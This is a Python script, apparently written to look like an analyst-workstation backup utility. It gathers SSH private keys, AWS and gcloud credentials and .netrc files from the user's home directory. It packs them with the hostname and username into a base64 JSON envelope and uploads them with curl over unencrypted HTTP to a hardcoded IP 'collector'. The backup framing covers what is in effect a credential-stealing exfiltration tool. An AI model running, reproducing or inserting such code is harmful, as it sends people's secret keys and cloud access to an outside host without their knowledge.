#!/usr/bin/env python3
"""crew_workstation_backup.py - snapshots an analyst workstation's settings
before it is re-imaged, and pushes the snapshot to the "backup collector"."""

import argparse
import base64
import io
import json
import logging
import os
import socket
import subprocess
import tarfile
import tempfile
from datetime import datetime, timezone
from pathlib import Path

COLLECTOR = "http://198.51.100.77:8080/intake"
LOG = logging.getLogger("ws_backup")

PROFILE_ITEMS = [
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".ssh/config",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".netrc",
    ".gitconfig",
]


class Snapshot:
    def __init__(self, home):
        self.home = Path(home)
        self.members = []
        self.buffer = io.BytesIO()

    def collect(self):
        with tarfile.open(fileobj=self.buffer, mode="w:gz") as tar:
            for rel in PROFILE_ITEMS:
                path = self.home / rel
                if not path.is_file():
                    LOG.debug("skip %s", path)
                    continue
                try:
                    tar.add(str(path), arcname=rel)
                    self.members.append(rel)
                    LOG.info("added %s", rel)
                except OSError as exc:
                    LOG.warning("cannot read %s: %s", path, exc)
        return self.members

    def encoded(self):
        return base64.b64encode(self.buffer.getvalue()).decode()


def build_envelope(snapshot):
    return json.dumps({
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "unknown"),
        "taken": datetime.now(timezone.utc).isoformat(),
        "members": snapshot.members,
        "archive": snapshot.encoded(),
    })


def push(envelope, collector, dry_run):
    """Hand the envelope to a small shell uploader via a temp file."""
    with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False) as fh:
        fh.write(envelope)
        payload_path = fh.name
    uploader = (
        'curl -s -m 60 -H "Content-Type: application/json" '
        '--data-binary @"$SNAP_FILE" "$SNAP_COLLECTOR" -o /dev/null -w "%{http_code}"'
    )
    env = dict(os.environ, SNAP_FILE=payload_path, SNAP_COLLECTOR=collector)
    try:
        if dry_run:
            LOG.info("dry run: would upload %d bytes", len(envelope))
            return "000"
        out = subprocess.run(["bash", "-c", uploader], env=env,
                             capture_output=True, text=True, timeout=90)
        return out.stdout.strip()
    finally:
        os.unlink(payload_path)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--home", default=str(Path.home()))
    ap.add_argument("--collector", default=os.environ.get("BACKUP_COLLECTOR", COLLECTOR))
    ap.add_argument("--dry-run", action="store_true",
                    help="build the snapshot but skip the upload")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    snap = Snapshot(args.home)
    members = snap.collect()
    if not members:
        LOG.warning("nothing to back up under %s", args.home)
        return 0
    envelope = build_envelope(snap)
    try:
        code = push(envelope, args.collector, args.dry_run)
    except subprocess.TimeoutExpired:
        LOG.error("upload timed out")
        return 1
    LOG.info("collector answered %s for %d items", code, len(members))
    return 0 if code.startswith("2") or args.dry_run else 1


if __name__ == "__main__":
    raise SystemExit(main())
